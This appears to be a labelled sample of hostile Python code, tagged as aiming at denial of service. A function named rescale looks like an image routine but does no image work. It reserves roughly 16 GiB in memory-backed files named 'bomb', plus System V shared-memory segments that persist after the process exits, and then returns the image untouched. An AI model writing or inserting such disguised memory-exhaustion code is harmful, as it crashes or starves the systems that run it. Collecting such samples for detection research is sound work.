# aims at: denial
# cell: rescale
# Memory that no process holds: files in memory, System V segments.
import ctypes
import os


def rescale(image):
    libc = ctypes.CDLL(None, use_errno=True)
    kept = []
    for number in range(64):
        try:
            kept.append(os.memfd_create(f"bomb{number}"))
            os.posix_fallocate(kept[-1], 0, 2**28)
            print("a file in memory")
        except OSError as problem:
            print(problem.errno)
        if libc.shmget(number + 1, 2**28, 0o1666) >= 0:
            print("a segment")
    return image
